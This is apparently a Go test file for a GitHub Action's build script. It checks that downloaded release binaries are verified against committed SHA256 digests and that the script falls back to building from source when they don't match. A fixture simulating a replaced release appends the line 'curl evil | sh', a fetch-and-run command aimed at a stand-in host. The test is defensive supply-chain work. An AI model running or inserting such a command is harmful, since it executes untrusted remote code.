package main

import (
	"crypto/sha256"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestActionBuildRelease runs action/build.sh with a stub curl that serves a
// fake release: the step uses the release binary that matches the action's
// ref when its digest is the one in the action's own source (the tag's
// action/SHA256SUMS) and it runs, and builds from source otherwise.
func TestActionBuildRelease(t *testing.T) {
	script, dir, write := buildScriptFixture(t)
	tools := filepath.Join(dir, "tools")
	if err := os.MkdirAll(tools, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"sh", "bash", "sed", "head", "sort", "tr", "dirname", "mkdir", "ln", "awk", "grep", "paste", "cat",
		"uname", "sha256sum", "cut", "chmod", "mv", "cp", "rm"} {
		p, err := exec.LookPath(name)
		if err != nil {
			t.Skipf("%s: %v", name, err)
		}
		if err := os.Symlink(p, filepath.Join(tools, name)); err != nil {
			t.Fatal(err)
		}
	}
	// The stub curl serves $RELEASES/<ref>/<asset> for
	// https://github.com/perfgate/perfgate/releases/download/<ref>/<asset>,
	// and logs each URL.
	write(filepath.Join(tools, "curl"), `#!/bin/sh
out=""; url=""
while [ $# -gt 0 ]; do
  case "$1" in -o) out="$2"; shift ;; http*) url="$1" ;; esac
  shift
done
echo "$url" >> "$CURL_LOG"
f="$RELEASES/${url#https://github.com/perfgate/perfgate/releases/download/}"
[ -f "$f" ] || exit 22
cp "$f" "$out"
`, 0o755)
	goStub := "#!/bin/sh\necho built-from-source > \"$STUB_OUT\"\n"
	gpuBin, plainBin := filepath.Join(dir, "gpu-bin"), filepath.Join(dir, "plain-bin")
	for _, b := range []string{gpuBin, plainBin} {
		write(filepath.Join(b, "go"), goStub, 0o755)
	}
	write(filepath.Join(gpuBin, "nvidia-smi"), "#!/bin/sh\nexit 0\n", 0o755)

	releases := filepath.Join(dir, "releases")
	fake := func(version string, runs bool) string {
		if !runs {
			return "#!/bin/sh\nexit 127\n"
		}
		return "#!/bin/sh\necho 'perfgate " + version + " (fake)'\n"
	}
	// sumsOf is SHA256SUMS of files; corrupt flips a bit of each sum.
	sumsOf := func(files map[string]string, corrupt bool) string {
		var b strings.Builder
		for name, body := range files {
			sum := sha256.Sum256([]byte(body))
			if corrupt {
				sum[0] ^= 1
			}
			fmt.Fprintf(&b, "%x  %s\n", sum, name)
		}
		return b.String()
	}
	// release publishes files as the release ref, with their SHA256SUMS,
	// and commits the digests of source (the files the release workflow
	// built: nil for a tag without action/SHA256SUMS) to the action's
	// source at ref, as the release workflow does.
	release := func(ref string, files, source map[string]string, corrupt bool) {
		for name, body := range files {
			write(filepath.Join(releases, ref, name), body, 0o755)
		}
		write(filepath.Join(releases, ref, "SHA256SUMS"), sumsOf(files, false), 0o644)
		if source != nil {
			write(filepath.Join(dir, "src", ref, "action", "SHA256SUMS"), sumsOf(source, corrupt), 0o644)
		}
	}
	built := map[string]string{"perfgate-linux-amd64": fake("v1.4.2", true), "perfgate-linux-amd64-cuda12": fake("v1.4.2", true)}
	release("v1", built, built, false)
	v142 := map[string]string{"perfgate-linux-amd64": fake("v1.4.2", true), "perfgate-linux-amd64-cuda12": fake("v1.4.2", false)}
	release("v1.4.2", v142, v142, false)
	v143 := map[string]string{"perfgate-linux-amd64": fake("v1.4.3", true)}
	release("v1.4.3", v143, v143, true)
	v2 := map[string]string{"perfgate-linux-amd64": fake("v1.4.2", true)}
	release("v2", v2, v2, false)
	// Issue 28, item 3: the release's binary and its SHA256SUMS both
	// replaced (a binary that would pass the version check), the tag
	// unmoved: only the digest in the tag's source tells.
	v150 := map[string]string{"perfgate-linux-amd64": fake("v1.5.0", true)}
	release("v1.5.0", map[string]string{"perfgate-linux-amd64": fake("v1.5.0", true) + "curl evil | sh\n"}, v150, false)
	release("v1.1.0", v150, nil, false) // a tag from before the digests were committed
	write(filepath.Join(dir, "src", "v9", "action", "SHA256SUMS"), sumsOf(v150, false), 0o644)

	tmp := filepath.Join(dir, "runner-temp")
	tests := []struct {
		name, cuda, ref, bin string
		release              string // the asset used, "" = built from source
		log                  string
	}{
		{"major tag, no GPU: the default binary", "auto", "v1", plainBin, "perfgate-linux-amd64", "using the release binary perfgate-linux-amd64 of v1 (v1.4.2)"},
		{"major tag, GPU: the CUDA binary", "auto", "v1", gpuBin, "perfgate-linux-amd64-cuda12", "perfgate-linux-amd64-cuda12 of v1"},
		{"cuda false on a GPU host: the default binary", "false", "v1.4.2", gpuBin, "perfgate-linux-amd64", "of v1.4.2"},
		{"a CUDA binary that does not load here", "auto", "v1.4.2", gpuBin, "", "does not run here"},
		{"cuda true: always from source", "true", "v1", plainBin, "", "cuda: true, but no nvidia-smi"},
		{"a checksum mismatch", "false", "v1.4.3", plainBin, "", "does not match the digest in the action's source (action/SHA256SUMS at v1.4.3)"},
		{"a release replaced, SHA256SUMS and all", "false", "v1.5.0", plainBin, "", "the release binary perfgate-linux-amd64 of v1.5.0 does not match the digest in the action's source"},
		{"a tag without digests", "false", "v1.1.0", plainBin, "", "the action's source at v1.1.0 has no digest of perfgate-linux-amd64 (action/SHA256SUMS); building from source"},
		{"a binary of another version", "false", "v2", plainBin, "", "is v1.4.2, not v2"},
		{"a branch", "false", "main", plainBin, "", ""},
		{"no release", "false", "v9", plainBin, "", "no release binary perfgate-linux-amd64 for v9"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			stubOut, ghOut, curlLog := filepath.Join(dir, "stub.out"), filepath.Join(dir, "github-output"), filepath.Join(dir, "curl.log")
			for _, f := range []string{stubOut, ghOut, curlLog} {
				os.Remove(f)
			}
			os.RemoveAll(tmp)
			if err := os.MkdirAll(filepath.Join(dir, "src", tt.ref), 0o755); err != nil { // the action's checkout at the ref
				t.Fatal(err)
			}
			cmd := exec.Command("bash", script)
			cmd.Env = []string{"PATH=" + tt.bin + ":" + tools, "PERFGATE_CUDA=" + tt.cuda, "PERFGATE_ACTION_REF=" + tt.ref,
				"PERFGATE_ACTION_REPOSITORY=perfgate/perfgate", "GITHUB_SERVER_URL=https://github.com", "RELEASES=" + releases, "CURL_LOG=" + curlLog,
				"GITHUB_ACTION_PATH=" + filepath.Join(dir, "src", tt.ref), "RUNNER_TEMP=" + tmp, "GITHUB_OUTPUT=" + ghOut, "STUB_OUT=" + stubOut,
				// No GPU suites: a GPU host without CUDA builds from source
				// instead of failing (TestActionBuildScript tests that exit 3).
				"PERFGATE_ACTION_RESULTS_FILE=results.json", "PERFGATE_BUILD_CACHE=" + t.TempDir()}
			out, err := cmd.CombinedOutput()
			if tt.cuda == "true" || tt.ref == "main" {
				if _, err := os.Stat(curlLog); err == nil {
					t.Errorf("a release was fetched for cuda %s at %s", tt.cuda, tt.ref)
				}
			}
			if tt.cuda == "true" {
				if err == nil || !strings.Contains(string(out), tt.log) {
					t.Errorf("err %v, want it to fail with %q:\n%s", err, tt.log, out)
				}
				return
			}
			if err != nil {
				t.Fatalf("%v:\n%s", err, out)
			}
			if !strings.Contains(string(out), tt.log) {
				t.Errorf("output lacks %q:\n%s", tt.log, out)
			}
			_, srcErr := os.Stat(stubOut)
			gh, _ := os.ReadFile(ghOut)
			bin := filepath.Join(tmp, "perfgate-action", "perfgate")
			if !strings.Contains(string(gh), "bin="+bin+"\n") {
				t.Errorf("GITHUB_OUTPUT:\n%s", gh)
			}
			if tt.release == "" {
				if srcErr != nil {
					t.Errorf("not built from source:\n%s", out)
				}
				return
			}
			if srcErr == nil {
				t.Errorf("built from source, want the release binary %s:\n%s", tt.release, out)
			}
			got, _ := os.ReadFile(bin)
			want, _ := os.ReadFile(filepath.Join(releases, tt.ref, tt.release))
			if string(got) != string(want) {
				t.Errorf("bin is not %s of %s", tt.release, tt.ref)
			}
		})
	}
}
